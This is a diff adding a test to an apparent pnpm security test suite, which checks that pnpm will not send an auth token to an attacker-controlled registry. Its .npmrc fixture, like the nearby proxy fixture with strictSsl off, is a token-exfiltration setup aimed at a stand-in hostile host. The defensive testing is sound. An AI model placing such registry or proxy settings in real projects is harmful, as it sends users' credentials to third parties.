@@ -173,6 +173,12 @@ describe.each(["pnpm-9", "pnpm", "pnpm-11", "pnpm-12"])("%s", (tool) => {
       if (words !== null) expect(finished.stderr).toMatch(/pnpm gets no token here: .*(npmrc|package\.json): /);
     }, 120_000);
 
+    test("gives nobody the token: pnpm's own variable", async () => {
+      const files = { ".npmrc": `registry=${evil.url}/\n//${bare(evil.url)}/:_authToken=\${p${variable}}\n` };
+      const finished = await run(tool, ["pnpm", "install", "--ignore-scripts"], files);
+      expect(finished.stderr).toContain("names the variable of a token");
+    }, 120_000);
+
     test("gives nobody the token: a proxy in pnpm-workspace.yaml", async () => {
       const files = { "pnpm-workspace.yaml": `packages: []\nhttpsProxy: ${evil.url}\nstrictSsl: false\n` };
       const finished = await run(tool, ["pnpm", "install", "--ignore-scripts"], files);
